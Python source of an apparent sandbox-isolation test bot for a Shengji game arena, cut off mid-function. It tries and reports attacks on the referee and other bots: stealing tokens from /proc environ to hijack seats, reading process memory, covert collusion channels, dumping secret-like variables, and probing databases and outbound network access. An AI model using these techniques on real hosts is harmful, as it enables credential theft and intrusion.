"""hostile: a bot that plays legally (at random, from the referee's hint) and tries, at start,
the attacks of issue #13 on the referee, the other seats and the host.

Each attack's outcome is one line in the bot's output (which the referee keeps in the seat's
log):

    PROBE {"attack": "environ_token", "ok": false, "seat": 0, "detail": "..."}

``ok`` is true when the attack got through (what it was after was read, reached or written).
Lines whose attack starts with ``info_`` only say what the bot did (for attacks whose outcome the
test judges from outside: processes left behind, a file left on the host, a partner's channel
set up); their ``ok`` says whether the bot managed to do it.

    python3 bot.py --marker M --attacks steal,memory,collude,environment,network,store,
                   folders,leftovers,hog[,given_token,pythonpath] [--outbound HOST:PORT]
                   [--stolen SEAT:TOKEN ...]

``--marker`` is put in the command line of every process the bot starts, so that the test finds
them in the host's process table. Everything here that may fork does so before grpc is imported.
"""

from __future__ import annotations

import sys

sys.dont_write_bytecode = True  # nothing of ours is written into the bot's folder by imports

import argparse
import ctypes
import glob
import json
import os
import random
import re
import signal
import socket
import threading
import time
import zlib
from pathlib import Path

SEAT = int(os.environ.get("ARENA_SEAT", "-1"))
MATCH = os.environ.get("ARENA_MATCH_ID", "")
ME = os.getpid()
SECRET_NAMES = ("ARENA_DB", "DATABASE_URL", "CELERY_BROKER_URL", "REDIS_URL", "ARENA_BROKER",
                "ARENA_STORE")
SECRET_HINT = re.compile(r"PASS|SECRET|TOKEN_KEY|DATABASE|BROKER|REDIS|_DB$|AWS|API_KEY",
                         re.IGNORECASE)
_print_lock = threading.Lock()
_args = None


def probe(attack: str, ok: bool, detail) -> None:
    """One PROBE line, written at once (one write on an unbuffered stream)."""
    line = "PROBE " + json.dumps({"attack": attack, "ok": bool(ok), "seat": SEAT,
                                  "detail": detail if isinstance(detail, str)
                                  else json.dumps(detail, default=str)}) + "\n"
    with _print_lock:
        sys.stdout.write(line)
        sys.stdout.flush()


def guarded(attack: str):
    """Run a probe function; an unexpected error is itself reported (a probe never vanishes)."""
    def wrap(fn):
        def run(*a, **kw):
            try:
                return fn(*a, **kw)
            except BaseException as e:  # noqa: BLE001 (a probe reports, whatever happened)
                probe(attack, False, f"probe error: {type(e).__name__}: {e}")
        return run
    return wrap


# -- the process table as this bot sees it ---------------------------------------------------
def _read(path: str, limit: int = 1 << 20) -> bytes | None:
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return None


def visible_pids() -> list[int]:
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())


def environ_of(pid: int) -> dict[str, str] | None:
    raw = _read(f"/proc/{pid}/environ")
    if raw is None:
        return None
    out = {}
    for item in raw.split(b"\0"):
        if b"=" in item:
            k, _, v = item.partition(b"=")
            out[k.decode(errors="replace")] = v.decode(errors="replace")
    return out


def cmdline_of(pid: int) -> str:
    raw = _read(f"/proc/{pid}/cmdline") or b""
    return raw.replace(b"\0", b" ").decode(errors="replace").strip()


def mine(pid: int) -> bool:
    """The bot itself or a process it started: its marker in the command line and its seat in
    the environment (a partner that is another process of this bot is not ours)."""
    if pid == ME:
        return True
    if _args is None or _args.marker not in cmdline_of(pid):
        return False
    env = environ_of(pid)
    return env is None or env.get("ARENA_SEAT") == str(SEAT)


def other_processes() -> list[int]:
    return [p for p in visible_pids() if not mine(p)]


def related() -> list[int]:
    """The processes of this match we can see that are not ours: our parent, pid 1, the other
    seats' bots (the probes read nothing of the host's other processes)."""
    out = [p for p in (os.getppid(), 1) if p not in (0, ME)]
    return out + [pid for pid, _ in other_seats().values() if pid not in out]


def other_seats() -> dict[int, tuple[int, dict]]:
    """Visible bot processes of this match's other seats: seat -> (pid, environ)."""
    out = {}
    for pid in other_processes():
        env = environ_of(pid)
        if not env or "ARENA_SEAT" not in env:
            continue
        if env.get("ARENA_MATCH_ID") != MATCH:
            continue
        try:
            seat = int(env["ARENA_SEAT"])
        except ValueError:
            continue
        if seat != SEAT:
            out.setdefault(seat, (pid, env))
    return out


# -- row 1: the token and the other seats' sockets -------------------------------------------
SEAT_IN_PATH = re.compile(r"seat(\d)(?:\.sock|/[^/]*\.sock)$")


def socket_paths() -> dict[str, int | None]:
    """Unix sockets a bot may find, with the seat each one's path names: those beside its own
    (``.../seatN.sock`` or ``.../seatN/seat.sock``), then the newest few in /tmp/arena-*, then
    those /proc/net/unix lists."""
    found = []
    own = os.environ.get("ARENA_REFEREE", "")[len("unix://"):]
    if own:
        here = os.path.dirname(own)
        found += glob.glob(os.path.join(here, "*.sock"))
        found += glob.glob(os.path.join(os.path.dirname(here), "seat*", "*.sock"))
    recent = sorted(glob.glob("/tmp/arena-*/seat*.sock") + glob.glob("/tmp/arena-*/seat*/*.sock"),
                    key=lambda p: -os.stat(p).st_mtime if os.path.exists(p) else 0)
    found += recent[:8]
    for line in (_read("/proc/net/unix") or b"").decode(errors="replace").splitlines()[1:]:
        parts = line.split()
        if len(parts) >= 8 and parts[-1].endswith(".sock") and parts[-1].startswith("/"):
            found.append(parts[-1])
    out = {}
    for p in dict.fromkeys(found):
        m = SEAT_IN_PATH.search(p)
        out[p] = int(m.group(1)) if m else None
    return out


def _can_connect_unix(path: str) -> str | None:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1.0)
    try:
        s.connect(path)
        return None
    except OSError as e:
        return f"{type(e).__name__}: {e}"
    finally:
        s.close()


class Steal(threading.Thread):
    """Read the other seats' tokens from /proc/PID/environ, then present an opponent's token on
    its socket (and on our own) before its real bot connects; a stream the referee binds to the
    opponent's seat is then played (at random) to the end of the match."""

    def __init__(self, over: threading.Event) -> None:
        super().__init__(daemon=True, name="steal")
        self.over = over

    @guarded("environ_token")
    def run(self) -> None:
        seen: dict[int, tuple[int, dict]] = {}
        deadline = time.monotonic() + 10
        opponents = {(SEAT + 1) % 4, (SEAT + 3) % 4}
        while time.monotonic() < deadline and not self.over.is_set():
            seen.update(other_seats())
            if opponents <= set(seen):
                break
            time.sleep(0.01)  # (the poll of the search for other seats' processes)
        tokens = {s: env["ARENA_TOKEN"] for s, (_, env) in seen.items() if "ARENA_TOKEN" in env}
        probe("environ_token", bool(tokens),
              {"seats_seen": sorted(seen), "tokens_read": sorted(tokens),
               "processes_visible": len(visible_pids())})
        paths = socket_paths()
        own = os.environ.get("ARENA_REFEREE", "")[len("unix://"):]
        reachable = {p: _can_connect_unix(p) for p, s in list(paths.items())[:12]
                     if p != own and s is not None}
        probe("socket_reach", any(v is None for v in reachable.values()),
              {"sockets_found": list(paths)[:12], "own": own,
               "connect": {p: v or "connected" for p, v in reachable.items()}})
        threads = []
        for seat in sorted(opponents):
            if seat not in tokens:
                probe("seat_takeover", False, {"seat": seat, "refused": "no token read"})
                continue
            targets = [p for p, s in paths.items() if s == seat and p != own][:4]
            if own:
                targets.append(own)  # the stolen token on our own socket
            t = threading.Thread(target=_takeover, args=(seat, tokens[seat], targets),
                                 daemon=True)
            t.start()
            threads.append(t)
        for t in threads:
            t.join()


@guarded("seat_takeover")
def use_given_tokens() -> None:
    """With opponents' tokens leaked to us (``--stolen``), try to take their seats: on their
    sockets if we find them, and on our own."""
    own = os.environ.get("ARENA_REFEREE", "")[len("unix://"):]
    paths = socket_paths()
    threads = []
    for item in _args.stolen:
        seat, _, token = item.partition(":")
        targets = [p for p, s in paths.items() if s == int(seat) and p != own][:4] + [own]
        t = threading.Thread(target=_takeover, args=(int(seat), token, targets), daemon=True)
        t.start()
        threads.append(t)
    for t in threads:
        t.join()


def _takeover(seat: int, token: str, targets: list[str]) -> None:
    import asyncio
    attempts = []
    try:
        for path in dict.fromkeys(targets):
            verdict = asyncio.run(_play_stolen(seat, token, path))
            attempts.append({"socket": path, "outcome": verdict})
            if verdict.startswith("WELCOME"):
                return  # reported when the Welcome came
        probe("seat_takeover", False, {"seat": seat, "attempts": attempts,
                                       "refused": attempts[-1]["outcome"] if attempts
                                       else "no socket found"})
    except BaseException as e:  # noqa: BLE001
        probe("seat_takeover", False, {"seat": seat, "attempts": attempts,
                                       "refused": f"probe error: {type(e).__name__}: {e}"})


async def _play_stolen(seat: int, token: str, path: str) -> str:
    """A Hello with the stolen ``token`` on ``path``; once welcomed, play the seat at random
    until the match ends. Returns what the referee said first ("WELCOME seat N" or a status)."""
    import grpc
    from shengji_arena.v1 import referee_pb2 as pb
    from shengji_arena.v1 import referee_pb2_grpc as pb_grpc
    rng = random.Random(token)
    first = None
    try:
        async with grpc.aio.insecure_channel(f"unix://{path}") as channel:
            call = pb_grpc.RefereeStub(channel).Play()
            await call.write(pb.BotMessage(hello=pb.Hello(
                token=token, bot_name="hostile-thief", bot_version="1.0.0",
                protocol="shengji-arena/1")))
            while True:
                msg = await call.read()
                if msg is grpc.aio.EOF:
                    break
                which = msg.WhichOneof("body")
                if which == "welcome" and first is None:
                    first = f"WELCOME seat {msg.welcome.seat}"
                    probe("seat_takeover", msg.welcome.seat == seat,
                          {"seat": seat, "socket": path, "welcome_seat": msg.welcome.seat,
                           "note": "welcomed on the stolen token; playing that seat"})
                elif which == "request":
                    await call.write(pb.BotMessage(answer=pb.Answer(
                        request_id=msg.request.request_id,
                        action=rng.choice(msg.request.hint.actions))))
                elif which == "match_end":
                    break
    except grpc.RpcError as e:
        if first is None:
            return f"{e.code().name}: {e.details()}"
    except Exception as e:  # noqa: BLE001
        if first is None:
            return f"{type(e).__name__}: {e}"
    return first or "the stream ended before a Welcome"


# -- row 1: other processes' memory ------------------------------------------------------------
PLUMBING = {"bwrap", "prlimit", "setpriv"}
"""Sandbox plumbing: a parent of ours that is one of these holds no card data."""


@guarded("proc_memory")
def attack_memory() -> None:
    """Read the memory of our parent (the referee, unless a sandbox's plumbing stands between),
    of pid 1 and of the other seats' bots, looking for card data. The attack got through when
    a process that is not the sandbox's plumbing could be read."""
    targets = {}
    for pid, what in ((os.getppid(), "parent"), (1, "pid 1")):
        if pid != ME and pid > 0:
            targets.setdefault(pid, what)
    for seat, (pid, _) in other_seats().items():
        targets.setdefault(pid, f"seat {seat}")
    report = {}
    total = hits = 0
    for pid, what in targets.items():
        maps = _read(f"/proc/{pid}/maps")
        if maps is None:
            report[pid] = {"what": what, "maps": "unreadable"}
            continue
        got, found, err = 0, 0, None
        try:
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
                for line in maps.decode(errors="replace").splitlines():
                    parts = line.split()
                    if len(parts) < 2 or not parts[1].startswith("rw"):
                        continue
                    start, end = (int(x, 16) for x in parts[0].split("-"))
                    if end - start > 64 << 20:
                        continue
                    try:
                        mem.seek(start)
                        chunk = mem.read(min(end - start, 8 << 20))
                    except OSError as e:
                        err = f"{type(e).__name__}: {e}"
                        continue
                    got += len(chunk)
                    found += chunk.count(b"CardDealt") + chunk.count(b'"hand"')
                    if got > 96 << 20:
                        break
        except OSError as e:
            err = f"{type(e).__name__}: {e}"
        argv0 = os.path.basename(cmdline_of(pid).split(" ")[0])
        plumbing = argv0 in PLUMBING
        if not plumbing:
            total += got
            hits += found
        report[pid] = {"what": what, "argv0": argv0, "plumbing": plumbing, "maps": "read",
                       "bytes_read": got, "card_hits": found, "error": err}
    probe("proc_memory", total > 0, {"targets": report, "bytes_read": total,
                                     "card_data_hits": hits})


# -- row 1: sharing the hand with the partner -------------------------------------------------
IPC_CREAT = 0o1000
SIGUSR1_RECEIVED = threading.Event()


def _libc():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmat.restype = ctypes.c_void_p
    return libc


def collude_names() -> dict[str, str]:
    return {"tmp_file": f"/tmp/arena-collude-{MATCH}.json",
            "dev_shm": f"/dev/shm/arena-collude-{MATCH}.json",
            "abstract_socket": "\0arena-collude",
            "path_socket": f"/tmp/arena-collude-{MATCH}.sock",
            "posix_shm": f"/arena-collude-{MATCH}"}


PAGE_ON, PAGE_OFF = 8, 1
"""Pages of bot.py: the sender keeps reading PAGE_ON; PAGE_OFF, before it (readahead reads
forward), is the receiver's control."""


def record_lock_file() -> str:
    """A file of ours no process of the bot opens otherwise: a process loses its record locks on
    a file when it closes any descriptor of it (as an import does)."""
    return os.path.abspath("bot.toml")


def flock_files() -> list[str]:
    """Files both partners (the same bot) see at the same paths: ours and the SDK's."""
    out = [os.path.abspath("bot.py")]
    for entry in os.environ.get("PYTHONPATH", "").split(os.pathsep):
        if entry and os.path.exists(os.path.join(entry, "arena_bot.py")):
            out.append(os.path.join(entry, "arena_bot.py"))
    return out


def collude_port() -> int:
    return 20000 + zlib.crc32(f"arena-collude-{MATCH}".encode()) % 20000


def sysv_key() -> int:
    return zlib.crc32(f"arena-collude-{MATCH}".encode()) & 0x7FFFFFFF


class Collusion:
    """Seat 0 or 1 publishes what it holds on every channel at start, before it connects (so
    that, once its partner is welcomed, everything is in place); seat 2 or 3 looks."""

    def __init__(self) -> None:
        self.hand: list[str] = []
        self.payload_lock = threading.Lock()
        self.sockets: list[socket.socket] = []
        self.shm_addr = None

    def payload(self) -> bytes:
        with self.payload_lock:
            return json.dumps({"collude": MATCH, "from": SEAT, "pid": ME,
                               "hand": list(self.hand)}).encode()

    # the sender
    @guarded("info_collude_send")
    def publish(self) -> None:
        names = collude_names()
        done = {}
        for key in ("tmp_file", "dev_shm"):
            done[key] = self._try(lambda k=key: Path(names[k]).write_bytes(self.payload()))
        for key in ("abstract_socket", "path_socket"):
            done[key] = self._try(lambda k=key: self._serve(names[k]))
        done["loopback_tcp"] = self._try(lambda: self._serve(("127.0.0.1", collude_port())))
        done["flock"] = self._try(self._flock)
        threading.Thread(target=self._open_often, daemon=True).start()
        done["inotify"] = "a thread opens our bot.py every 20 ms (the partner watches it)"
        done["posix_shm"] = self._try(self._posix_write)
        done["sysv_shm"] = self._try(self._sysv_write)
        threading.Thread(target=self._signal_partner, daemon=True).start()
        done["signal"] = "a thread looks for the partner's pid and sends SIGUSR1"
        probe("info_collude_send", any(v == "done" for v in done.values()), done)

    def _flock(self) -> None:
        """One bit per file, in a lock on files both partners see (read-only is enough): our
        own bot.py and the SDK's arena_bot.py."""
        import fcntl
        self.locked = []
        for path in flock_files():
            fd = os.open(path, os.O_RDONLY)
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            self.locked.append(fd)
        # and a POSIX record lock (a read lock) on byte 0 of our bot.toml
        fd = os.open(record_lock_file(), os.O_RDONLY)
        fcntl.lockf(fd, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, 0)
        self.locked.append(fd)

    @staticmethod
    def _open_often() -> None:
        """Open our bot.py every 20 ms (an inotify watch sees it) and read its page PAGE_ON
        (the page cache shows it, to whoever evicted it)."""
        path = os.path.abspath("bot.py")
        while True:
            try:
                fd = os.open(path, os.O_RDONLY)
                os.pread(fd, 1, PAGE_ON * 4096)
                os.close(fd)
            except OSError:
                return
            time.sleep(0.02)  # (the covert channel's beat: the attack itself)

    def update(self, hand: list[str]) -> None:
        """The hand as dealt so far, republished where it can be rewritten."""
        with self.payload_lock:
            self.hand = list(hand)
        names = collude_names()
        for key in ("tmp_file", "dev_shm"):
            self._try(lambda k=key: Path(names[k]).write_bytes(self.payload()))
        self._try(self._posix_write)
        if self.shm_addr:
            self._try(self._sysv_write)

    @staticmethod
    def _try(fn) -> str:
        try:
            fn()
            return "done"
        except Exception as e:  # noqa: BLE001
            return f"{type(e).__name__}: {e}"

    def _serve(self, address) -> None:
        if isinstance(address, tuple):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        else:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        if isinstance(address, str) and not address.startswith("\0"):
            try:
                os.unlink(address)
            except OSError:
                pass
        s.bind(address)
        s.listen(8)
        self.sockets.append(s)

        def loop():
            while True:
                try:
                    conn, _ = s.accept()
                except OSError:
                    return
                with conn:
                    try:
                        conn.sendall(self.payload())
                    except OSError:
                        pass
        threading.Thread(target=loop, daemon=True).start()

    def _posix_write(self) -> None:
        import _posixshmem
        fd = _posixshmem.shm_open(collude_names()["posix_shm"], os.O_CREAT | os.O_RDWR, 0o666)
        try:
            data = self.payload()
            os.ftruncate(fd, 4096)
            os.pwrite(fd, data + b"\0" * (4096 - len(data)), 0)
        finally:
            os.close(fd)

    def _sysv_write(self) -> None:
        libc = _libc()
        if self.shm_addr is None:
            shmid = libc.shmget(sysv_key(), 4096, IPC_CREAT | 0o666)
            if shmid < 0:
                raise OSError(ctypes.get_errno(), "shmget: " + os.strerror(ctypes.get_errno()))
            addr = libc.shmat(shmid, None, 0)
            if addr in (None, ctypes.c_void_p(-1).value):
                raise OSError(ctypes.get_errno(), "shmat: " + os.strerror(ctypes.get_errno()))
            self.shm_addr = addr
        data = self.payload()[:4095] + b"\0"
        ctypes.memmove(self.shm_addr, data, len(data))

    def _signal_partner(self) -> None:
        """Once the partner's process is visible and catches SIGUSR1, send it one."""
        partner = (SEAT + 2) % 4
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            for pid in other_processes():
                env = environ_of(pid) or {}
                if env.get("ARENA_SEAT") == str(partner) and env.get("ARENA_MATCH_ID") == MATCH:
                    status = (_read(f"/proc/{pid}/status") or b"").decode(errors="replace")
                    caught = re.search(r"SigCgt:\s*([0-9a-f]+)", status)
                    if caught and int(caught.group(1), 16) & (1 << (signal.SIGUSR1 - 1)):
                        try:
                            os.kill(pid, signal.SIGUSR1)
                        except OSError:
                            pass
                        return
            time.sleep(0.01)  # (the poll of the search for a partner to signal)

    # the receiver
    def listen_for_signal(self) -> None:
        """(Before connecting.) Catch SIGUSR1, and watch our bot.py for opens with inotify."""
        signal.signal(signal.SIGUSR1, lambda *_: SIGUSR1_RECEIVED.set())
        self.inotify = None
        try:
            libc = ctypes.CDLL(None, use_errno=True)
            fd = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
            if fd < 0:
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            wd = libc.inotify_add_watch(fd, os.path.abspath("bot.py").encode(), 0x20)  # IN_OPEN
            if wd < 0:
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            self.inotify = fd
        except OSError as e:
            self.inotify = f"{type(e).__name__}: {e}"

    def receive(self) -> None:
        """Look on every channel for what the partner published (called once welcomed: the
        partner published before it connected, so whatever got through is there now)."""
        names = collude_names()
        partner = (SEAT + 2) % 4
        checks = {
            "collude_tmp_file": lambda: Path(names["tmp_file"]).read_bytes(),
            "collude_dev_shm": lambda: Path(names["dev_shm"]).read_bytes(),
            "collude_abstract_socket": lambda: self._recv_socket(names["abstract_socket"]),
            "collude_path_socket": lambda: self._recv_socket(names["path_socket"]),
            "collude_loopback_tcp": lambda: self._recv_socket(("127.0.0.1", collude_port())),
            "collude_posix_shm": self._posix_read,
            "collude_sysv_shm": self._sysv_read,
        }
        for attack, fn in checks.items():
            self._judge(attack, fn, partner)
        self._judge_signal(partner)
        self._judge_inotify()  # (first: the checks below open bot.py themselves)
        self._judge_flock()
        self._judge_lockf()
        self._judge_page_cache()

    def _judge_inotify(self) -> None:
        import select
        if not isinstance(self.inotify, int):
            probe("collude_inotify", False, f"no inotify watch: {self.inotify}")
            return
        events = 0
        end = time.monotonic() + 1.0
        while time.monotonic() < end and not events:
            ready, _, _ = select.select([self.inotify], [], [], max(0, end - time.monotonic()))
            if ready:
                try:
                    events += len(os.read(self.inotify, 4096)) // 16
                except BlockingIOError:
                    pass
        probe("collude_inotify", events > 0,
              {"opens_of_our_bot_py_seen": events, "note": "the partner opens it every 20 ms"})

    @staticmethod
    def _judge_page_cache() -> None:
        """Evict our bot.py from the page cache, then see which pages are back a moment later
        (a read with RWF_NOWAIT fails on a page that is not cached): the partner reads one."""
        path = os.path.abspath("bot.py")
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError as e:
            probe("collude_page_cache", False, f"{type(e).__name__}: {e}")
            return
        def cached(page: int) -> bool:
            try:
                os.preadv(fd, [bytearray(1)], page * 4096, os.RWF_NOWAIT)
                return True
            except BlockingIOError:
                return False
        try:  # (a missed RWF_NOWAIT read starts readahead: one look per eviction, PAGE_ON
            # first, as readahead goes forward)
            for attempt in range(1, 6):
                os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
                time.sleep(0.05)  # (readahead started by the last look lands, and goes too)
                os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
                time.sleep(0.3)  # the partner reads its page every 20 ms
                on = cached(PAGE_ON)
                off = cached(PAGE_OFF)
                if on and not off:
                    break
            probe("collude_page_cache", on and not off,
                  {"page_the_partner_reads_cached": on, "control_page_cached": off,
                   "evictions": attempt})
        except OSError as e:
            probe("collude_page_cache", False, f"{type(e).__name__}: {e}")
        finally:
            os.close(fd)

    @staticmethod
    def _judge_lockf() -> None:
        import fcntl
        import struct
        try:
            fd = os.open(record_lock_file(), os.O_RDONLY)
        except OSError as e:
            probe("collude_record_lock", False, f"{type(e).__name__}: {e}")
            return
        try:  # F_GETLK: would a write lock on byte 0 conflict with someone's lock? The kernel
            # answers with the conflicting lock's type (the partner's read lock) or F_UNLCK; a
            # filter that fakes success leaves our F_WRLCK as it was
            query = struct.pack("hhqqi", fcntl.F_WRLCK, 0, 0, 1, 0)
            got = fcntl.fcntl(fd, fcntl.F_GETLK, query)
            kind = struct.unpack("hhqqi", got)[0]
            says = {fcntl.F_RDLCK: "read-locked by another process", fcntl.F_UNLCK: "free",
                    fcntl.F_WRLCK: "no answer (the query came back as it was)"}.get(kind, kind)
            probe("collude_record_lock", kind == fcntl.F_RDLCK, {"byte_0": says})
        except OSError as e:
            probe("collude_record_lock", False, f"{type(e).__name__}: {e}")
        finally:
            os.close(fd)

    @staticmethod
    def _judge_flock() -> None:
        import fcntl
        held = {}
        for path in flock_files():
            try:
                fd = os.open(path, os.O_RDONLY)
            except OSError as e:
                held[path] = f"{type(e).__name__}: {e}"
                continue
            try:
                fcntl.flock(fd, fcntl.LOCK_SH | fcntl.LOCK_NB)
                held[path] = "free"
            except BlockingIOError:
                held[path] = "locked by another process"
            finally:
                os.close(fd)
        probe("collude_flock", any(v.startswith("locked") for v in held.values()), held)

    def _judge(self, attack: str, fn, partner: int) -> None:
        try:
            raw = fn()
        except Exception as e:  # noqa: BLE001
            probe(attack, False, f"nothing received: {type(e).__name__}: {e}")
            return
        try:
            got = json.loads(raw.rstrip(b"\0").decode())
        except (ValueError, UnicodeDecodeError):
            probe(attack, False, f"something unreadable: {raw[:80]!r}")
            return
        ok = got.get("collude") == MATCH and got.get("from") == partner
        probe(attack, ok, {"received": got})

    @staticmethod
    def _recv_socket(address) -> bytes:
        s = socket.socket(socket.AF_INET if isinstance(address, tuple) else socket.AF_UNIX,
                          socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect(address)
            data = b""
            while chunk := s.recv(65536):
                data += chunk
            return data
        finally:
            s.close()

    @staticmethod
    def _posix_read() -> bytes:
        import _posixshmem
        fd = _posixshmem.shm_open(collude_names()["posix_shm"], os.O_RDONLY, 0)
        try:
            return os.pread(fd, 4096, 0)
        finally:
            os.close(fd)

    @staticmethod
    def _sysv_read() -> bytes:
        libc = _libc()
        shmid = libc.shmget(sysv_key(), 0, 0)
        if shmid < 0:
            raise OSError(ctypes.get_errno(), "shmget: " + os.strerror(ctypes.get_errno()))
        addr = libc.shmat(shmid, None, 0o10000)  # SHM_RDONLY
        if addr in (None, ctypes.c_void_p(-1).value):
            raise OSError(ctypes.get_errno(), "shmat: " + os.strerror(ctypes.get_errno()))
        return ctypes.string_at(addr, 4096)

    def _judge_signal(self, partner: int) -> None:
        visible = partner in other_seats()
        if visible:  # the partner can find us: give its signal time to arrive
            SIGUSR1_RECEIVED.wait(3)
        probe("collude_signal", SIGUSR1_RECEIVED.is_set(),
              {"partner_visible": visible, "sigusr1_received": SIGUSR1_RECEIVED.is_set()})


# -- row 1: the environment -------------------------------------------------------------------
@guarded("environment")
def attack_environment() -> None:
    """Print every variable we have and every environment we can read of other processes."""
    env = dict(os.environ)
    others = {}
    for pid in related():
        if pid in others or pid == ME:
            continue
        e = environ_of(pid)
        if e is None:
            continue
        if pid in (os.getppid(), 1) or e.get("ARENA_MATCH_ID") == MATCH:
            others[pid] = {"cmdline": cmdline_of(pid)[:200], "environ": e}
    leaked = sorted({k for k in env if k in SECRET_NAMES or SECRET_HINT.search(k)}
                    | {f"{pid}:{k}" for pid, o in others.items() for k in o["environ"]
                       if k in SECRET_NAMES or SECRET_HINT.search(k)})
    probe("environment", bool(leaked), {"own": env, "others": others, "secret_like": leaked})


# -- row 1: the network ----------------------------------------------------------------------
def _tcp(host: str, port: int, send: bytes | None, timeout: float = 1.5) -> tuple[bool, str]:
    try:
        with socket.create_connection((host, port), timeout=timeout) as s:
            if send is None:
                return True, "connected"
            s.sendall(send)
            try:
                reply = s.recv(64)
            except OSError as e:
                return True, f"connected; no reply: {e}"
            return True, f"connected; replied {reply[:40]!r}"
    except OSError as e:
        return False, f"{type(e).__name__}: {e}"


@guarded("network")
def attack_network() -> None:
    results = {}

    def go(name, *a):
        results[name] = _tcp(*a)
    jobs = [("redis_tcp", "127.0.0.1", 6379, b"PING\r\n"),
            # an SSLRequest: any server answers with one byte, S or N
            ("postgres_tcp", "127.0.0.1", 5432, b"\x00\x00\x00\x08\x04\xd2\x16\x2f"),
            ("outbound_tcp", "1.1.1.1", 443, None)]
    if _args.outbound:
        host, _, port = _args.outbound.rpartition(":")
        jobs.append(("outbound_lan", host, int(port), b"hello\n"))
    threads = [threading.Thread(target=go, args=j, daemon=True) for j in jobs]
    services = {}

    def unix_services():  # the host's services on Unix sockets, if their folders are visible
        paths = glob.glob("/var/run/postgresql/.s.PGSQL.*") + glob.glob("/run/postgresql/.s.*") \
            + glob.glob("/run/redis/*.sock") + glob.glob("/var/run/redis/*.sock") \
            + glob.glob("/run/mysqld/*.sock") + glob.glob("/var/run/mysqld/*.sock")
        for p in dict.fromkeys(paths):
            if not p.endswith(".lock"):
                services[p] = _can_connect_unix(p) or "connected"
    threads.append(threading.Thread(target=unix_services, daemon=True))
    t0 = time.monotonic()
    dns = {}

    def resolve():
        try:
            dns["v"] = (True, str(socket.getaddrinfo("example.com", 443)[0][4]))
        except OSError as e:
            dns["v"] = (False, f"{type(e).__name__}: {e}")
    threads.append(threading.Thread(target=resolve, daemon=True))
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(0.1, 4 - (time.monotonic() - t0)))
    for name, *_ in jobs:
        ok, detail = results.get(name, (False, "no answer within 4 s"))
        probe(name, ok, detail)
    ok, detail = dns.get("v", (False, "no answer within 4 s"))
    probe("outbound_dns", ok, detail)
    probe("unix_services", any(v == "connected" for v in services.values()),
          services or "no service socket visible")


# -- row 2: the store and the folders ---------------------------------------------------------
def _walk(top: str, depth: int, pred, limit: int = 50000) -> list[str]:
    out = []
    stack = [(top, 0)]
    seen = 0
    while stack and seen < limit:
        d, k = stack.pop()
        try:
            entries = list(os.scandir(d))
        except OSError:
            continue
        for e in entries:
            seen += 1
            try:
                if e.is_dir(follow_symlinks=False):
                    if k < depth and e.name not in (".git", "node_modules", ".venv", "proc"):
                        stack.append((e.path, k + 1))
                elif e.is_file(follow_symlinks=False) and pred(e.path):
                    out.append(e.path)
            except OSError:
                continue
    return out


def _is_db(path: str) -> bool:
    return path.endswith((".sqlite", ".sqlite3", ".db"))


@guarded("store_read")
def attack_store() -> None:
    candidates = []
    envs = [dict(os.environ)] + [e for e in (environ_of(p) for p in related()) if e]
    for env in envs:  # a store named in any environment we can read
        for v in env.values():
            if "sqlite" in v or _is_db(v):
                candidates.append(re.sub(r"^sqlite:/*", "/", v))
    here = Path.cwd().resolve()
    for parent in [here, *here.parents]:
        for folder in (parent, parent / "records"):
            try:
                candidates += [str(p) for p in folder.iterdir() if _is_db(p.name)]
            except OSError:
                pass
    candidates += _walk("/tmp", 6, _is_db) + _walk("/var/tmp", 4, _is_db) \
        + _walk("/dev/shm", 2, _is_db)
    read = {}
    for path in dict.fromkeys(candidates):
        head = _read(path, 1 << 16)  # read as bytes: sqlite3 might write beside it
        if head is not None and head.startswith(b"SQLite format 3"):
            tables = sorted(set(re.findall(rb"CREATE TABLE \"?(\w+)", head)))
            read[path] = [t.decode() for t in tables]
    probe("store_read", bool(read), {"read": read, "looked_at": len(set(candidates))})


VICTIM_MARK = ".arena-victim"
"""The file by which a test marks a bot folder the probe may try to write into."""


@guarded("folders")
def attack_folders() -> None:
    own = Path.cwd().resolve()
    lib = [Path(p).resolve() for p in os.environ.get("PYTHONPATH", "").split(os.pathsep) if p]

    def ours(p: Path) -> bool:  # our folder and what our manifest put on our PYTHONPATH
        return any(p == q or q in p.parents for q in [own, *lib])
    folders = []
    for pid, _ in other_seats().values():
        try:
            folders.append(Path(os.readlink(f"/proc/{pid}/cwd")))
        except OSError:
            pass
    roots = ["/tmp", "/var/tmp"]
    for parent in own.parents:  # the repository holding us, if we can see it
        if (parent / "sample_bots").is_dir():
            roots.append(str(parent / "sample_bots"))
            roots.append(str(parent / "tests" / "bots"))
            break
    for root in roots:
        folders += [Path(p).parent for p in _walk(root, 6, lambda p: p.endswith("bot.toml"))]
    folders = [f for f in dict.fromkeys(p.resolve() for p in folders) if not ours(f)]
    read = {}
    for f in folders:
        try:
            names = sorted(os.listdir(f))
        except OSError:
            continue
        contents = {}
        for n in names[:20]:
            data = _read(str(f / n), 200)
            if data is not None:
                contents[n] = data[:60].decode(errors="replace")
        read[str(f)] = contents
    probe("read_other_bot", bool(read), {"folders": sorted(read), "read": read,
                                         "candidates": [str(f) for f in folders]})
    name = f".hostile-write-{_args.marker}"
    try:
        (own / name).write_text("written by the hostile bot\n")
        (own / name).unlink()
